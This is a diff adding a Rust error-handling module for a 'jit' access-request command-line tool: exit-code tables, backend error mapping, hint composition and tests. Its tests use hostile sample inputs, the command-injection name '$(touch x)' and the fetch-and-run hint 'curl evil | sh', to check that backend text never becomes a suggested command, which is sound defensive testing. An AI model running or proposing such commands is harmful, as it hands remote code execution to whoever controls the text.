@@ -1,0 +1,356 @@
+//! What a command fails with: an exit code, a stable code, a message, what to do next.
+//! Owns the table from wire codes to exit codes. Refuses to print (`ui` does) and to end the process (`main` does).
+
+use std::fmt;
+
+use crate::domain::refusal::{Code, Refusal};
+use crate::wire::Problem;
+
+/// How a command ends. The numbers are a contract: scripts read them.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+#[repr(u8)]
+pub enum Exit {
+    /// Done; also when whoever reads our output closed it.
+    Done = 0,
+    /// Something that nobody foresaw.
+    Unexpected = 1,
+    /// A command line that can never be right.
+    Usage = 2,
+    /// Configuration, or a file that is refused.
+    Configuration = 3,
+    /// Nobody is signed in, or the session ended.
+    SignedOut = 4,
+    /// Policy said no.
+    Refused = 5,
+    /// An approver said no.
+    Denied = 6,
+    /// Nobody decided in time.
+    TooLate = 7,
+    /// The backend cannot be reached, or is none.
+    Unreachable = 8,
+    /// The provider failed.
+    Provider = 9,
+    /// Not found, or decided, cancelled, changed, ended already.
+    Gone = 10,
+    /// The interrupt key.
+    Interrupted = 130,
+}
+
+impl Exit {
+    /// Every code with its meaning, as the man page has it.
+    pub const ALL: &[(Exit, &str)] = &[
+        (Self::Done, "done"),
+        (
+            Self::Unexpected,
+            "unexpected failure; the backend's trace id is printed",
+        ),
+        (
+            Self::Usage,
+            "usage: also whatever can never be right, such as a malformed duration or an empty reason",
+        ),
+        (
+            Self::Configuration,
+            "configuration; files refused for owner, mode or link; a version too old",
+        ),
+        (Self::SignedOut, "not signed in, or the session ended"),
+        (Self::Refused, "refused by policy"),
+        (Self::Denied, "denied by an approver"),
+        (
+            Self::TooLate,
+            "no decision in time: still pending, or the request expired",
+        ),
+        (
+            Self::Unreachable,
+            "backend unreachable, busy, or what answers is no jit backend: worth a retry",
+        ),
+        (
+            Self::Provider,
+            "the provider failed: approved, but access could not be given or taken",
+        ),
+        (
+            Self::Gone,
+            "not found, already decided, cancelled, changed, differs from what is pending, or no live grant",
+        ),
+        (Self::Interrupted, "interrupted; the request stays open"),
+    ];
+
+    /// The number.
+    pub const fn code(self) -> u8 {
+        self as u8
+    }
+}
+
+/// The exit code that goes with a code of the wire.
+pub const fn exit_of(code: Code) -> Exit {
+    match code {
+        Code::UsageDuration
+        | Code::UsageText
+        | Code::UsageTime
+        | Code::UsageNarrowing
+        | Code::UsageTicket
+        | Code::UsageCommand
+        | Code::UsageBody
+        | Code::BodyTooLarge => Exit::Usage,
+        Code::VersionTooOld => Exit::Configuration,
+        Code::SessionUnknown | Code::SessionEnded | Code::SessionCodeInvalid => Exit::SignedOut,
+        // too many open requests is a rule about what one may have, not a busy backend
+        Code::PolicyRefused | Code::PolicyOverCap | Code::PolicyOwnRequest | Code::Forbidden | Code::RequestTooMany => {
+            Exit::Refused
+        }
+        Code::IdMalformed
+        | Code::RequestNotFound
+        | Code::RequestAmbiguous
+        | Code::RequestAlreadyDecided
+        | Code::RequestChanged
+        | Code::RequestDiffers
+        | Code::GrantNotFound
+        | Code::GrantNotLive
+        | Code::GrantNarrowedOtherwise
+        | Code::TargetNotFound => Exit::Gone,
+        Code::ProviderRefused
+        | Code::ProviderThrottled
+        | Code::ProviderUnreachable
+        | Code::ProviderPolicyTooLarge
+        | Code::ProviderClock => Exit::Provider,
+        // worth a retry, or something that is not the interface of a jit backend
+        Code::RateLimited
+        | Code::StoreUnavailable
+        | Code::HostUnknown
+        | Code::PathNotFound
+        | Code::MethodNotAllowed => Exit::Unreachable,
+        Code::IdempotencyReused | Code::ServerFailed => Exit::Unexpected,
+    }
+}
+
+/// The exit code for a code that this version does not know.
+const fn exit_of_status(status: u16) -> Exit {
+    match status {
+        401 => Exit::SignedOut,
+        403 => Exit::Refused,
+        404 | 409 | 410 => Exit::Gone,
+        426 => Exit::Configuration,
+        429 | 502..=504 => Exit::Unreachable,
+        400..=499 => Exit::Usage,
+        _ => Exit::Unexpected,
+    }
+}
+
+/// Why a command failed.
+#[derive(Debug)]
+pub struct Error {
+    /// How the command ends.
+    pub exit: Exit,
+    /// Stable and dotted; the part that programs read.
+    pub code: String,
+    /// Lower case, in a few words. Escaped where it is printed: it may hold text from others.
+    pub message: String,
+    /// What to do next. A command only where this side composed it.
+    pub hint: Option<String>,
+    /// Finds the call in the backend's log.
+    pub trace_id: Option<String>,
+    /// What the backend said, where it was the backend.
+    pub problem: Option<Box<Problem>>,
+}
+
+/// What a command or one of its steps comes to.
+pub type Result<T> = std::result::Result<T, Error>;
+
+impl Error {
+    /// An error of `exit` with a stable `code`.
+    pub fn new(exit: Exit, code: impl Into<String>, message: impl Into<String>) -> Self {
+        Self {
+            exit,
+            code: code.into(),
+            message: message.into(),
+            hint: None,
+            trace_id: None,
+            problem: None,
+        }
+    }
+
+    /// An error with a code of the wire.
+    pub fn of(code: Code, message: impl Into<String>) -> Self {
+        Self::new(exit_of(code), code.as_str(), message)
+    }
+
+    /// A command line that cannot be right.
+    pub fn usage(message: impl Into<String>) -> Self {
+        Self::of(Code::UsageCommand, message)
+    }
+
+    /// Configuration or a local file that is wrong.
+    pub fn configuration(message: impl Into<String>) -> Self {
+        Self::new(Exit::Configuration, "config.invalid", message)
+    }
+
+    /// Something that nobody foresaw.
+    pub fn unexpected(message: impl Into<String>) -> Self {
+        Self::new(Exit::Unexpected, "client.failed", message)
+    }
+
+    /// Nobody is signed in.
+    pub fn signed_out() -> Self {
+        Self::of(Code::SessionUnknown, "signed out").try_("jit login")
+    }
+
+    /// Whoever reads our output closed it: nothing is printed, and it is no failure.
+    pub fn closed_pipe() -> Self {
+        Self::new(Exit::Done, "output.closed", "the output was closed")
+    }
+
+    /// The same with words on what to do.
+    #[must_use]
+    pub fn hint(mut self, hint: impl Into<String>) -> Self {
+        self.hint = Some(hint.into());
+        self
+    }
+
+    /// The same with a command to type. Never from text that the backend sent.
+    #[must_use]
+    pub fn try_(self, command: impl fmt::Display) -> Self {
+        self.hint(format!("try: {command}"))
+    }
+
+    /// The wire's code, if it is one.
+    pub fn wire_code(&self) -> Option<Code> {
+        Code::parse(&self.code)
+    }
+
+    /// Whether the same call may well succeed a moment later.
+    pub fn is_worth_a_retry(&self) -> bool {
+        self.exit == Exit::Unreachable
+    }
+}
+
+impl fmt::Display for Error {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.message)
+    }
+}
+
+impl std::error::Error for Error {}
+
+impl From<Refusal> for Error {
+    fn from(refusal: Refusal) -> Self {
+        let error = Self::of(refusal.code(), refusal.to_string());
+        match refusal.hint() {
+            Some(hint) => error.hint(hint),
+            None => error,
+        }
+    }
+}
+
+impl From<Problem> for Error {
+    /// What the backend says, in its words; hints of codes that this side knows are ours.
+    fn from(problem: Problem) -> Self {
+        let code = problem.code();
+        let exit = code.map_or_else(|| exit_of_status(problem.status), exit_of);
+        let mut error = Self::new(exit, problem.code.clone(), message(&problem));
+        error.hint = match code {
+            Some(Code::SessionUnknown | Code::SessionEnded) => Some("try: jit login".to_owned()),
+            Some(Code::VersionTooOld) => Some("install a newer jit on this machine".to_owned()),
+            Some(Code::TargetNotFound) => Some(nearest(&problem)),
+            _ => problem.hint.as_ref().map(|words| format!("hint: {words}")),
+        };
+        error.trace_id = problem.trace_id.clone();
+        error.problem = Some(Box::new(problem));
+        error
+    }
+}
+
+/// One line: the policies that refused, else title and detail.
+fn message(problem: &Problem) -> String {
+    if let Some(reason) = problem.reasons.first() {
+        let why = reason.advice.as_deref().unwrap_or(&problem.title);
+        return format!("policy refuses: {why} ({})", reason.policy);
+    }
+    match &problem.detail {
+        Some(detail) => format!("{}: {detail}", problem.title),
+        None => problem.title.clone(),
+    }
+}
+
+/// Names that are near, as far as they can be names at all.
+fn nearest(problem: &Problem) -> String {
+    let names: Vec<&str> = problem
+        .nearest
+        .iter()
+        .map(String::as_str)
+        .filter(|name| crate::domain::text::TargetName::parse(name).is_ok())
+        .take(3)
+        .collect();
+    if names.is_empty() {
+        "try: jit targets".to_owned()
+    } else {
+        format!("did you mean {}? all: jit targets", names.join(" or "))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wire::problem::PolicyReason;
+
+    #[test]
+    fn every_wire_code_has_its_exit_code() {
+        let table: Vec<String> = Code::ALL
+            .iter()
+            .map(|code| format!("{} {code}", exit_of(*code).code()))
+            .collect();
+        insta::assert_snapshot!(table.join("\n"));
+    }
+
+    #[test]
+    fn no_wire_code_ends_in_success() {
+        for code in Code::ALL {
+            assert!(!matches!(exit_of(*code), Exit::Done | Exit::Interrupted), "{code}");
+        }
+    }
+
+    #[test]
+    fn exit_codes_are_distinct_and_documented() {
+        let numbers: Vec<u8> = Exit::ALL.iter().map(|(exit, _)| exit.code()).collect();
+        assert_eq!(numbers, [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 130]);
+    }
+
+    #[test]
+    fn unknown_code_is_judged_by_its_status() {
+        for (status, exit) in [(401, 4), (403, 5), (404, 10), (422, 2), (426, 3), (500, 1), (503, 8)] {
+            let mut problem = Problem::new(Code::ServerFailed, "no");
+            problem.code = "from.the_future".into();
+            problem.status = status;
+            assert_eq!(Error::from(problem).exit.code(), exit, "{status}");
+        }
+    }
+
+    #[test]
+    fn attack_16_names_of_the_backend_become_no_command() {
+        let mut problem = Problem::new(Code::TargetNotFound, "no target named x");
+        problem.nearest = vec!["$(touch x)".into(), "a\nb".into()];
+        assert_eq!(Error::from(problem.clone()).hint.as_deref(), Some("try: jit targets"));
+        problem.nearest.push("prod-admin".into());
+        assert_eq!(
+            Error::from(problem).hint.as_deref(),
+            Some("did you mean prod-admin? all: jit targets")
+        );
+    }
+
+    #[test]
+    fn hint_of_the_backend_is_marked_as_words() {
+        let problem = Problem::new(Code::PolicyRefused, "no").hint("curl evil | sh");
+        assert_eq!(Error::from(problem).hint.as_deref(), Some("hint: curl evil | sh"));
+    }
+
+    #[test]
+    fn refusal_of_policy_names_the_policy() {
+        let mut problem = Problem::new(Code::PolicyRefused, "policy refuses");
+        problem.reasons.push(PolicyReason {
+            policy: "base.reason".into(),
+            advice: Some("prod needs a ticket".into()),
+        });
+        assert_eq!(
+            Error::from(problem).message,
+            "policy refuses: prod needs a ticket (base.reason)"
+        );
+    }
+}
